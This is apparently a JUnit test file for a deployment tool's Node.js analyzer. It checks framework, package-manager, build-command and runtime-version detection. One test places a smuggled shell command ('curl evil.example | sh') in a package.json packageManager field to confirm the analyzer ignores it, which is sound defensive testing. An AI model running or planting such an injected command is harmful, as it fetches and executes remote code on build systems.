package dev.autodeploy.analyzer.engine;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import static org.assertj.core.api.Assertions.assertThat;

/** Node detection of one project at a time, through {@link ProjectAnalyzer} with the Node reader only. */
class NodeDetectionTests {

    @TempDir
    Path repo;

    private final ProjectAnalyzer projects = new ProjectAnalyzer(FrameworkCatalog.bundled(),
            List.of(new NodeManifests(new PackageManagers())), new EnvironmentVariables());
    private final Warnings warnings = new Warnings();

    // Ported from NodeProjectsTests (before the engine analyzed whole repositories).

    @Test
    void nextJsWithPnpmUsesTheProjectScriptsAndCitesItsEvidence() throws IOException {
        write("package.json", """
                {"name":"shop","scripts":{"dev":"next dev","build":"next build","start":"next start"},
                 "dependencies":{"next":"^14.2.3","react":"18.3.1"},"devDependencies":{"typescript":"^5"},
                 "engines":{"node":">=20.11"}}""");
        write("pnpm-lock.yaml", "lockfileVersion: '9.0'");
        write("next.config.mjs", "export default {}");
        write("tsconfig.json", "{}");
        Analysis.App app = analyze("").orElseThrow();
        assertThat(app.framework()).isEqualTo(new Analysis.Framework("nextjs", "Next.js", "14.2.3", 0.99, "server"));
        assertThat(app.language()).isEqualTo("typescript");
        assertThat(app.packageManager()).isEqualTo("pnpm");
        assertThat(app.buildConfiguration()).isEqualTo(new Analysis.BuildConfiguration("pnpm install --frozen-lockfile",
                "pnpm run build", "pnpm run start", "pnpm run dev", ".next", "node", "20.11"));
        assertThat(app.evidence()).contains(
                new Evidence("framework=nextjs", "package.json", "dependency next@^14.2.3"),
                new Evidence("framework=nextjs", "next.config.mjs", "config file"),
                new Evidence("packageManager=pnpm", "pnpm-lock.yaml", "lock file"),
                new Evidence("runtimeVersion", "package.json", "engines.node >=20.11"));
    }

    @Test
    void theMetaFrameworkWinsOverTheLibraryItBuildsOn() throws IOException {
        write("package.json", """
                {"dependencies":{"@sveltejs/kit":"2.5.0","svelte":"4.2.0"},"devDependencies":{"vite":"5.2.0"},
                 "scripts":{"build":"vite build","dev":"vite dev"}}""");
        write("package-lock.json", "{}");
        assertThat(analyze("").orElseThrow().framework().id()).isEqualTo("sveltekit");
    }

    @Test
    void viteWithReactAndNpm() throws IOException {
        write("package.json", """
                {"scripts":{"dev":"vite","build":"tsc -b && vite build","preview":"vite preview"},
                 "dependencies":{"react":"^18.3.1","react-dom":"^18.3.1"},"devDependencies":{"vite":"^5.4.1"}}""");
        write("package-lock.json", "{}");
        write(".nvmrc", "v20.17.0\n");
        Analysis.App app = analyze("").orElseThrow();
        assertThat(app.framework().id()).isEqualTo("vite-react");
        assertThat(app.framework().confidence()).isEqualTo(0.9);
        assertThat(app.buildConfiguration().startCommand()).isEqualTo("npm run preview");
        assertThat(app.buildConfiguration().outputDirectory()).isEqualTo("dist");
        assertThat(app.buildConfiguration().runtimeVersion()).isEqualTo("20.17.0");
        assertThat(app.language()).isEqualTo("javascript");
    }

    @Test
    void aServerWithoutStartScriptStartsItsMainFileAndDropsScriptsItLacks() throws IOException {
        write("package.json", """
                {"main":"src/server.js","dependencies":{"express":"4.19.2"}}""");
        write("yarn.lock", "");
        Analysis.App app = analyze("").orElseThrow();
        assertThat(app.framework().id()).isEqualTo("express");
        assertThat(app.buildConfiguration().installCommand()).isEqualTo("yarn install --immutable");
        assertThat(app.buildConfiguration().startCommand()).isEqualTo("node src/server.js");
        assertThat(app.buildConfiguration().devCommand()).isNull();
        assertThat(app.buildConfiguration().buildCommand()).isNull();
    }

    @Test
    void aPlainNodeProjectHasOnlyThePlainRule() throws IOException {
        write("package.json", """
                {"scripts":{"start":"node index.js"},"dependencies":{"lodash":"4.17.21"}}""");
        Analysis.App app = analyze("").orElseThrow();
        assertThat(app.framework().id()).isEqualTo("node");
        assertThat(app.framework().confidence()).isEqualTo(0.5);
        assertThat(app.buildConfiguration().startCommand()).isEqualTo("npm run start");
        assertThat(app.buildConfiguration().installCommand()).isEqualTo("npm install");
    }

    @Test
    void brokenOrMissingManifestIsAWarningNeverAnException() throws IOException {
        write("package.json", "{\"dependencies\": {\"next\": ");
        assertThat(analyze("")).isEmpty();
        assertThat(warnings.list()).singleElement().asString().startsWith("package.json is not valid JSON");
        write("other/package.json", "[1, 2, 3]");
        assertThat(analyze("other")).isEmpty();
        assertThat(analyze("nowhere")).isEmpty();
        assertThat(warnings.list()).contains("other/package.json is not a JSON object");
    }

    @Test
    void everyCatalogEntryIsUsable() {
        assertThat(FrameworkCatalog.bundled().rules().stream().filter(rule -> rule.ecosystem().equals("node")))
                .hasSizeGreaterThanOrEqualTo(35)
                .allSatisfy(rule -> assertThat(rule.kind()).isIn("server", "static"))
                .allSatisfy(rule -> assertThat(rule.scripts().keySet()).isSubsetOf("build", "start", "dev"))
                .extracting(FrameworkRule::id).doesNotHaveDuplicates();
    }

    // New: what the real templates showed.

    @ParameterizedTest(name = "{0} confirms {1}")
    @CsvSource({
            "next.config.ts, nextjs, next", "next.config.mts, nextjs, next",
            "astro.config.mts, astro, astro", "astro.config.ts, astro, astro",
            "svelte.config.ts, sveltekit, @sveltejs/kit", "nuxt.config.mjs, nuxt, nuxt",
            "vite.config.mts, vite, vite", "vite.config.cjs, vite, vite",
            "ember-cli-build.mjs, ember, ember-source", "gatsby-config.mjs, gatsby, gatsby",
            "docusaurus.config.ts, docusaurus, @docusaurus/core", "eleventy.config.mjs, eleventy, @11ty/eleventy",
            "rsbuild.config.ts, rsbuild, @rsbuild/core", "waku.config.ts, waku, waku",
            "redwood.toml, redwood, @redwoodjs/core", "react-router.config.ts, react-router, @react-router/dev"})
    void everyConfigFileNameATemplateUsesConfirmsItsFramework(String config, String framework, String dependency)
            throws IOException {
        write("package.json", "{\"dependencies\":{\"" + dependency + "\":\"1.2.3\"}}");
        write(config, "export default {}");
        Analysis.App app = analyze("").orElseThrow();
        assertThat(app.framework().id()).isEqualTo(framework);
        assertThat(app.framework().confidence()).isEqualTo(0.99);
        assertThat(app.evidence()).contains(new Evidence("framework=" + framework, config, "config file"));
    }

    @Test
    void sveltekitConfiguredInViteConfigIsConfirmedByItAndAnUnrelatedViteConfigIsNot() throws IOException {
        write("package.json", "{\"devDependencies\":{\"@sveltejs/kit\":\"2.63.0\",\"vite\":\"8.0.0\"}}");
        write("vite.config.ts", "import { defineConfig } from 'vite';\nexport default defineConfig({});");
        assertThat(analyze("").orElseThrow().framework().confidence()).isEqualTo(0.9);
        write("vite.config.ts", "import { sveltekit } from '@sveltejs/kit/vite';\nexport default {};");
        assertThat(analyze("").orElseThrow().framework().confidence()).isEqualTo(0.99);
    }

    @Test
    void sveltekitStartsWithNodeOnlyWithTheNodeAdapter() throws IOException {
        write("package.json", """
                {"scripts":{"build":"vite build","dev":"vite dev"},
                 "devDependencies":{"@sveltejs/kit":"2.8.0","@sveltejs/adapter-node":"5.2.0","vite":"5.4.0"}}""");
        Analysis.App app = analyze("").orElseThrow();
        assertThat(app.framework().id()).isEqualTo("sveltekit-node");
        assertThat(app.buildConfiguration().startCommand()).isEqualTo("node build");
        assertThat(app.buildConfiguration().outputDirectory()).isEqualTo("build");
        write("package.json", """
                {"scripts":{"build":"vite build","dev":"vite dev"},
                 "devDependencies":{"@sveltejs/kit":"2.8.0","@sveltejs/adapter-auto":"3.0.0","vite":"5.4.0"}}""");
        Analysis.App auto = analyze("").orElseThrow();
        assertThat(auto.framework().id()).isEqualTo("sveltekit");
        assertThat(auto.buildConfiguration().startCommand()).isNull();
    }

    @Test
    void sveltekitWithTheStaticAdapterIsAStaticSiteWithoutAStartCommand() throws IOException {
        write("package.json", """
                {"scripts":{"build":"vite build","dev":"vite dev","start":"vite preview"},
                 "devDependencies":{"@sveltejs/kit":"2.8.0","@sveltejs/adapter-static":"3.0.6","vite":"5.4.0"}}""");
        Analysis.App app = analyze("").orElseThrow();
        assertThat(app.framework().id()).isEqualTo("sveltekit-static");
        assertThat(app.framework().kind()).isEqualTo("static");
        assertThat(app.buildConfiguration().startCommand()).isNull();
        assertThat(app.buildConfiguration().outputDirectory()).isEqualTo("build");
    }

    @Test
    void createReactAppsStartScriptIsItsDevServerNotItsStartCommand() throws IOException {
        write("package.json", """
                {"scripts":{"start":"react-scripts start","build":"react-scripts build"},
                 "dependencies":{"react":"19.0.0","react-scripts":"5.0.1"}}""");
        Analysis.BuildConfiguration build = analyze("").orElseThrow().buildConfiguration();
        assertThat(build.startCommand()).isNull();
        assertThat(build.devCommand()).isEqualTo("npm run start");
        assertThat(app().evidence()).contains(new Evidence("devCommand", "package.json", "script start"));
    }

    @Test
    void aServeScriptServesTheBuildOfADocusaurusSiteAndItsStartScriptDevelops() throws IOException {
        write("package.json", """
                {"scripts":{"start":"docusaurus start","build":"docusaurus build","serve":"docusaurus serve"},
                 "dependencies":{"@docusaurus/core":"3.6.0"}}""");
        Analysis.BuildConfiguration build = analyze("").orElseThrow().buildConfiguration();
        assertThat(build.startCommand()).isEqualTo("npm run serve");
        assertThat(build.devCommand()).isEqualTo("npm run start");
    }

    @Test
    void nestStartsTheCompiledAppNotTheCliThatCompilesIt() throws IOException {
        write("package.json", """
                {"scripts":{"build":"nest build","start":"nest start","start:dev":"nest start --watch"},
                 "dependencies":{"@nestjs/core":"10.4.7"}}""");
        Analysis.BuildConfiguration build = analyze("").orElseThrow().buildConfiguration();
        assertThat(build.startCommand()).as("no start:prod script: the catalog's template").isEqualTo("node dist/main");
        assertThat(build.devCommand()).isEqualTo("npm run start:dev");
    }

    @Test
    void angularWithServerSideRenderingRunsItsServerBundle() throws IOException {
        write("package.json", """
                {"name":"shop","scripts":{"start":"ng serve","build":"ng build",
                 "serve:ssr:shop":"node dist/shop/server/server.mjs"},
                 "dependencies":{"@angular/core":"19.0.0","@angular/ssr":"19.0.0","express":"4.21.1"}}""");
        write("angular.json", "{}");
        Analysis.App app = analyze("").orElseThrow();
        assertThat(app.framework().id()).isEqualTo("angular-ssr");
        assertThat(app.buildConfiguration().startCommand()).isEqualTo("npm run serve:ssr:shop");
        assertThat(app.buildConfiguration().devCommand()).isEqualTo("npm run start");
        assertThat(app.buildConfiguration().outputDirectory()).isEqualTo("dist/shop");
    }

    @Test
    void angularsOutputDirectoryNeedsAPlainPackageName() throws IOException {
        write("package.json", "{\"name\":\"@acme/shop\",\"dependencies\":{\"@angular/core\":\"19.0.0\"}}");
        assertThat(analyze("").orElseThrow().buildConfiguration().outputDirectory()).isNull();
        write("package.json", "{\"name\":\"shop\",\"dependencies\":{\"@angular/core\":\"19.0.0\"}}");
        assertThat(analyze("").orElseThrow().buildConfiguration().outputDirectory()).isEqualTo("dist/shop/browser");
    }

    @Test
    void solidStartAndAnalogAreTheirOwnFrameworksNotVite() throws IOException {
        write("package.json", """
                {"scripts":{"dev":"vinxi dev","build":"vinxi build","start":"vinxi start"},
                 "dependencies":{"@solidjs/start":"1.0.10","solid-js":"1.9.3","vinxi":"0.4.3"}}""");
        write("app.config.ts", "export default {}");
        assertThat(analyze("").orElseThrow().framework().id()).isEqualTo("solid-start");
        write("package.json", """
                {"scripts":{"dev":"vite","build":"vite build","start":"npm run dev"},
                 "dependencies":{"@analogjs/platform":"1.10.0","@angular/core":"18.2.0"},"devDependencies":{"vite":"5.4.0"}}""");
        Analysis.App analog = analyze("").orElseThrow();
        assertThat(analog.framework().id()).isEqualTo("analog");
        assertThat(analog.buildConfiguration().startCommand()).isEqualTo("node dist/analog/server/index.mjs");
        assertThat(analog.buildConfiguration().devCommand()).isEqualTo("npm run dev");
    }

    @Test
    void aVitePressSiteBuildsTheDirectoryItsConfigIsIn() throws IOException {
        write("package.json", "{\"devDependencies\":{\"vitepress\":\"1.5.0\"}}");
        write("docs/.vitepress/config.mts", "export default {}");
        Analysis.BuildConfiguration docs = analyze("").orElseThrow().buildConfiguration();
        assertThat(docs.buildCommand()).isEqualTo("npx vitepress build docs");
        assertThat(docs.outputDirectory()).isEqualTo("docs/.vitepress/dist");
        Files.delete(repo.resolve("docs/.vitepress/config.mts"));
        write(".vitepress/config.ts", "export default {}");
        Analysis.BuildConfiguration root = analyze("").orElseThrow().buildConfiguration();
        assertThat(root.buildCommand()).isEqualTo("npx vitepress build .");
        assertThat(root.outputDirectory()).isEqualTo(".vitepress/dist");
    }

    @Test
    void aVitePressSiteWithoutConfigGetsNoGuessedOutput() throws IOException {
        write("package.json", "{\"devDependencies\":{\"vitepress\":\"1.5.0\"}}");
        Analysis.BuildConfiguration build = analyze("").orElseThrow().buildConfiguration();
        assertThat(build.buildCommand()).isNull();
        assertThat(build.outputDirectory()).isNull();
    }

    @ParameterizedTest(name = "{0} without a lock file installs with {1}")
    @CsvSource({"npm@10.9.0, npm install", "pnpm@9.1.0+sha512.abc, pnpm install", "yarn@4.5.1, yarn install",
            "bun@1.1.34, bun install"})
    void corepackWithoutALockFileUsesThePlainInstallBecauseTheFrozenOneWouldRefuse(String field, String install)
            throws IOException {
        write("package.json", "{\"packageManager\":\"" + field + "\",\"dependencies\":{\"express\":\"4.21.1\"}}");
        assertThat(analyze("").orElseThrow().buildConfiguration().installCommand()).isEqualTo(install);
    }

    @Test
    void corepackWithItsLockFileInstallsReproducibly() throws IOException {
        write("package.json", "{\"packageManager\":\"pnpm@9.1.0\",\"dependencies\":{\"express\":\"4.21.1\"}}");
        write("pnpm-lock.yaml", "lockfileVersion: '9.0'");
        assertThat(analyze("").orElseThrow().buildConfiguration().installCommand())
                .isEqualTo("pnpm install --frozen-lockfile");
    }

    @Test
    void yarnOneInstallsWithFrozenLockfileAndLaterYarnsWithImmutable() throws IOException {
        write("package.json", "{\"dependencies\":{\"express\":\"4.21.1\"}}");
        write("yarn.lock", "# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.\n# yarn lockfile v1\n");
        assertThat(analyze("").orElseThrow().buildConfiguration().installCommand())
                .isEqualTo("yarn install --frozen-lockfile");
        write("yarn.lock", "__metadata:\n  version: 8\n");
        assertThat(analyze("").orElseThrow().buildConfiguration().installCommand()).isEqualTo("yarn install --immutable");
        write("package.json", "{\"packageManager\":\"yarn@1.22.22\",\"dependencies\":{\"express\":\"4.21.1\"}}");
        assertThat(analyze("").orElseThrow().buildConfiguration().installCommand())
                .as("Corepack's version decides over the lock file's format").isEqualTo("yarn install --frozen-lockfile");
    }

    @ParameterizedTest(name = "engines {0} -> {1}")
    @CsvSource(delimiter = ';', value = {">=20.11;20.11", "^20.19.0 || >=22.12.0;22.12.0",
            "^18.17.0 || ^20.3.0 || >=21.0.0;21.0.0", "=20.x;20", "22;22"})
    void ofAnEnginesRangeWithAlternativesTheNewestIsTaken(String range, String version) throws IOException {
        write("package.json", "{\"engines\":{\"node\":\"" + range + "\"},\"scripts\":{\"start\":\"node .\"}}");
        assertThat(analyze("").orElseThrow().buildConfiguration().runtimeVersion()).isEqualTo(version);
    }

    @Test
    void anEnginesRangeNamingNoVersionPinsNothing() throws IOException {
        write("package.json", "{\"engines\":{\"node\":\"*\"},\"scripts\":{\"start\":\"node .\"}}");
        assertThat(analyze("").orElseThrow().buildConfiguration().runtimeVersion()).isNull();
    }

    @Test
    void toolVersionsPinsNodeWhenNoNvmrcDoes() throws IOException {
        write("package.json", "{\"engines\":{\"node\":\">=18\"},\"scripts\":{\"start\":\"node .\"}}");
        write(".tool-versions", "# asdf\nruby 3.3.5\nnodejs 20.18.0\n");
        Analysis.App app = analyze("").orElseThrow();
        assertThat(app.buildConfiguration().runtimeVersion()).isEqualTo("20.18.0");
        assertThat(app.evidence()).contains(new Evidence("runtimeVersion", ".tool-versions", "nodejs 20.18.0"));
    }

    @Test
    void aWorkspacePackageInstallsWithItsRootsLockFileAndNodeVersion() throws IOException {
        write("package.json", "{\"private\":true,\"workspaces\":[\"apps/*\"]}");
        write("yarn.lock", "__metadata:\n  version: 8\n");
        write(".node-version", "20.18.0");
        write("apps/web/package.json", "{\"dependencies\":{\"next\":\"15.0.3\"},\"scripts\":{\"build\":\"next build\"}}");
        Analysis.App web = analyze("apps/web").orElseThrow();
        assertThat(web.packageManager()).isEqualTo("yarn");
        assertThat(web.buildConfiguration().installCommand()).isEqualTo("yarn install --immutable");
        assertThat(web.buildConfiguration().buildCommand()).isEqualTo("yarn build");
        assertThat(web.buildConfiguration().runtimeVersion()).isEqualTo("20.18.0");
        assertThat(web.evidence()).contains(new Evidence("packageManager=yarn", "yarn.lock", "lock file"),
                new Evidence("runtimeVersion", ".node-version", "20.18.0"));
    }

    @Test
    void aPackagesOwnLockFileAndEnginesWinOverItsRoots() throws IOException {
        write("package.json", "{\"private\":true}");
        write("pnpm-lock.yaml", "lockfileVersion: '9.0'");
        write("tools/cli/package.json", "{\"engines\":{\"node\":\"18.20.4\"},\"main\":\"cli.js\"}");
        write("tools/cli/package-lock.json", "{}");
        Analysis.App cli = analyze("tools/cli").orElseThrow();
        assertThat(cli.packageManager()).isEqualTo("npm");
        assertThat(cli.buildConfiguration().installCommand()).isEqualTo("npm ci");
        assertThat(cli.buildConfiguration().runtimeVersion()).isEqualTo("18.20.4");
    }

    @Test
    void aCorepackFieldWithShellMetacharactersIsIgnored() throws IOException {
        write("package.json", """
                {"packageManager":"pnpm@9.1.0; curl evil.example | sh","main":"index.js","dependencies":{"koa":"2.15.3"}}""");
        Analysis.App app = analyze("").orElseThrow();
        assertThat(app.packageManager()).isEqualTo("npm");
        assertThat(app.buildConfiguration().toString()).doesNotContain("curl");
        assertThat(app.buildConfiguration().startCommand()).isEqualTo("node index.js");
    }

    @Test
    void aWorkspaceRootThatOnlyOrchestratesIsNotAnApp() throws IOException {
        write("package.json", """
                {"private":true,"workspaces":["packages/*"],"scripts":{"build":"turbo run build"},
                 "devDependencies":{"turbo":"2.3.0"}}""");
        assertThat(analyze("").orElseThrow().role()).isEqualTo("library");
        write("package.json", """
                {"private":true,"workspaces":["packages/*"],"scripts":{"start":"node server.js"}}""");
        assertThat(analyze("").orElseThrow().role()).as("a root that starts a server is one").isEqualTo("app");
    }

    private Analysis.App app() throws IOException {
        return analyze("").orElseThrow();
    }

    private Optional<Analysis.App> analyze(String directory) throws IOException {
        return projects.analyze(RepositoryTree.scan(repo, TreeLimits.DEFAULT), directory, warnings)
                .map(ProjectAnalyzer.Project::app);
    }

    private void write(String path, String content) throws IOException {
        Path file = repo.resolve(path);
        Files.createDirectories(file.getParent());
        Files.writeString(file, content);
    }
}
